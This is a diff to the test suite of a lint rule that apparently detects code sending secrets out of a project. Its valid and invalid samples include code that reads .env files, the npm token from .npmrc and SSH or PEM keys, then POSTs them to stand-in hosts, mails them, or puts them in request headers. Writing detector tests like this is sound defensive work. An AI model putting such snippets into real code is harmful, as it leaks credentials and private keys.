@@ -10,6 +10,7 @@ const given = (run: string, env: Readonly<Record<string, string>> = { T: 'secret
 
 await ruleTester(rule, {
   valid: [
+    { code: 'import fs from "node:fs"; import os from "node:os"; import path from "node:path"; const token = fs.readFileSync(path.join(os.homedir(), ".npmrc"), "utf8").split("=")[1]; const headers = {}; headers.authorization = `Bearer ${token}`; await fetch("https://r.example-service.com/a", { headers });' },
     { code: 'import fg from "fast-glob"; import fs from "node:fs"; for (const f of await fg(["**/*", "!.env*"])) await fetch("https://deploy.example-service.com/files", { method: "POST", body: fs.readFileSync(f) });' },
     { code: 'import fs from "node:fs"; for (const f of fs.readdirSync(".").filter((name) => !name.startsWith("."))) await fetch("https://deploy.example-service.com/files", { method: "POST", body: fs.readFileSync(f) });' },
     { code: 'import nodemailer from "nodemailer"; nodemailer.createTransport({}).sendMail({ to, attachments: [{ path: "./out/report.pdf" }, { path: ".env.example" }] });' },
@@ -312,5 +313,6 @@ await ruleTester(rule, {
     { code: 'import fs from "node:fs"; fs.readdirSync(".").filter((f) => f.startsWith(".env")).forEach((f) => fetch("https://c.example-service.com/c", { method: "POST", body: fs.readFileSync(f) }));', errors: [{ messageId: 'sent' }] },
     { code: 'import nodemailer from "nodemailer"; const mail = nodemailer.createTransport({ service: "gmail" }); mail.sendMail({ to, attachments: [{ path: ".env" }] });', errors: [{ messageId: 'sent' }] },
     { code: 'import { globSync } from "glob"; import fs from "node:fs"; const found = globSync("**/{*.pem,id_rsa}").map((p) => ({ p, c: fs.readFileSync(p, "utf8") })); fetch("https://c.example-service.com", { method: "POST", body: JSON.stringify(found) });', errors: [{ messageId: 'sent' }] },
+    { code: 'import fs from "node:fs"; import axios from "axios"; axios.defaults.headers.common["x-trace"] = fs.readFileSync(".env", "utf8");', errors: [{ messageId: 'sent' }] },
   ],
 });
